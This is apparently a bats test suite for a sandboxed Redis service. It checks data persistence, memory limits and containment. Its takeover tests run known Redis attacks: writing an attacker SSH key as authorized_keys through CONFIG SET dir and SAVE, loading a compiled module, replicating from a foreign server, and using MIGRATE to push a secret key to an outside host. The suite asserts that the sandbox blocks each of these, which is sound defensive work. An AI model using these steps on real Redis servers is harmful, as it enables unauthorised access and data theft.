# redis: data is kept over a restart; a client that may say anything takes over nothing.

# shellcheck disable=SC2030,SC2031,SC2034,SC2154 # what bats' run sets, and lib/service
bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles
load ../lib/net
load ../lib/service

setup_file() {
	packages gcc libc6-dev redis-server redis-tools nginx-light curl iproute2 nftables passt
}

setup() {
	service_up
}

teardown() {
	service_down
}

redis() {
	from_host redis-cli -h 127.0.0.1 -p 6379 "$@"
}

serving() {
	[ "$(redis ping 2>/dev/null)" = PONG ]
}

port_is_free() {
	! from_host ss -Hltn | grep -q 127.0.0.1:6379
}

keeps() {
	begin
	wait_until 10 serving
	redis set greeting hello
	seq 1 10000 | sed 's/.*/RPUSH list &/' | from_host redis-cli --pipe
	redis hset person name Ada born 1815
	[ "$(redis eval 'return redis.call("LLEN", KEYS[1]) * 2' 1 list)" = 20000 ]
	redis xadd stream '*' k v
	# A second server for the same data, in another sandbox.
	run launch "${MODE[@]}" -D port=6380
	assert_status 1
	assert_output 'another server has this directory'
	end
	assert_status 0
	# The client's own, on the host.
	[ "$(stat -c %u dump.rdb)" = "$(stat -c %u .)" ]
	from_host redis-check-rdb dump.rdb
	from_host redis-check-aof appendonlydir/appendonly.aof.manifest
	begin
	wait_until 10 serving
	[ "$(redis get greeting)" = hello ]
	[ "$(redis lindex list -1)" = 10000 ]
	[ "$(redis hget person born)" = 1815 ]
	[ "$(redis xlen stream)" = 1 ]
	# Killed, it has what it was told a second ago.
	redis set last words
	sleep 1.2
	kill -KILL "$SERVICE"
	wait "$SERVICE" || :
	wait_until 5 port_is_free
	as_launcher sandbox gc
	begin
	wait_until 10 serving
	[ "$(redis get last)" = words ]
	run on client redis-cli -h 192.0.2.1 -p 6379 ping
	refute_output PONG
	end
	assert_status 0
}

@test "data of many kinds is kept: over SIGTERM, and over SIGKILL" {
	each_service keeps
}

# The server with nothing switched off in its configuration, on the host as the launcher's user, and inside.
open_server() {
	printf '%s\n' 'port 6379' 'protected-mode no' "dir $1" 'enable-protected-configs yes' 'enable-module-command yes' \
		'enable-debug-command yes' 'save ""' >open.conf
	chmod 0644 open.conf
}

begin_outside() {
	open_server "$WORK"
	EXEC='exec' as_launcher redis-server "$WORK/open.conf" >"$TMP/out-$LAUNCHER" 2>&1 3>&- &
	SERVICE=$!
	wait_until 10 serving
}

begin_inside() {
	open_server /data
	begin -- redis-server /data/open.conf
	wait_until 10 serving
}

# The way in which open servers are taken over: a key of the attacker's as a file of the user's.
writes_files() {
	local theirs=$TMP/theirs-$LAUNCHER

	begin_outside
	redis set key "ssh-ed25519 AAAA attacker"
	redis config set dir "$theirs"
	redis config set dbfilename authorized_keys
	[ "$(redis save)" = OK ]
	end
	grep -q attacker "$theirs/authorized_keys"
	rm "$theirs/authorized_keys"

	begin_inside
	redis set key "ssh-ed25519 AAAA attacker"
	run redis config set dir "$theirs"
	assert_output 'No such file or directory'
	for directory in /etc /usr/lib /usr/bin; do
		redis config set dir "$directory"
		redis config set dbfilename authorized_keys
		run redis save
		assert_output ERR
	done
	# A file of its own that is a library is no program of its own.
	redis config set dir /data
	cp "$TMP/module.so" "$WORK/module.so"
	chmod 0755 module.so
	run redis module load /data/module.so
	assert_output ERR
	end
	[ ! -e loaded ]
	[ ! -e "$theirs/authorized_keys" ]
	begin_outside
	run redis module load "$WORK/module.so"
	end
	[ -e loaded ]
}

@test "CONFIG SET dir and SAVE write nobody's keys; MODULE LOAD loads nothing that was written" {
	# As soon as it is mapped it leaves a mark in the server's directory.
	cat >"$TMP/module.c" <<'END'
#include <fcntl.h>
static void __attribute__((constructor)) mark(void) { (void)creat("loaded", 0644); }
int RedisModule_OnLoad(void *context, void **argv, int argc);
int RedisModule_OnLoad(void *context, void **argv, int argc) { (void)context; (void)argv; (void)argc; return 1; }
END
	cc -shared -fPIC -o "$TMP/module.so" "$TMP/module.c"
	each_service writes_files
}

calls_home() {
	# Somebody else's data set.
	EXEC='exec' on outside redis-server --port 6390 --protected-mode no --bind 198.51.100.7 --repl-diskless-sync no --save "" --dir "$TMP" \
		>/dev/null 2>&1 3>&- &
	wait_until 10 eval 'on outside redis-cli -h 198.51.100.7 -p 6390 set evil data'
	begin_outside
	redis replicaof 198.51.100.7 6390
	wait_until 10 eval "redis get evil | grep -qx data"
	redis replicaof no one
	redis set secret 1
	[ "$(redis migrate 198.51.100.7 6390 secret 0 2000)" = OK ]
	end
	begin_inside
	redis flushall
	redis set secret 2
	redis replicaof 198.51.100.7 6390
	wait_until 10 grep -q 'Error condition on socket for SYNC\|Unable to connect to MASTER' "$TMP/out-$LAUNCHER"
	redis replicaof no one
	[ -z "$(redis get evil)" ]
	run redis migrate 198.51.100.7 6390 secret 0 1000
	assert_output IOERR
	end
	[ "$(on outside redis-cli -h 198.51.100.7 -p 6390 get secret)" = 1 ]
	on outside redis-cli -h 198.51.100.7 -p 6390 shutdown nosave || :
}

@test "REPLICAOF and MIGRATE reach no other server" {
	each_service calls_home
}

fills() {
	# As its configuration says: no more data, but what is there can be read.
	begin
	wait_until 10 serving
	redis config set maxmemory 8mb
	run bash -c "$(declare -f from_host); NET=$NET HOLDER=$HOLDER; for i in {1..20000}; do
		printf 'SET key%d %01000d\r\n' \$i \$i; done | from_host redis-cli --pipe --pipe-timeout 2"
	assert_output 'OOM command not allowed'
	[ "$(redis exists key100)" = 1 ]
	end
	refuses_service
	refuses_memory 256M -s cgroup.memory.max=128M
}

@test "it takes no more than it was given; it reads nothing else, reaches nobody, gains nothing" {
	each_service fills
}
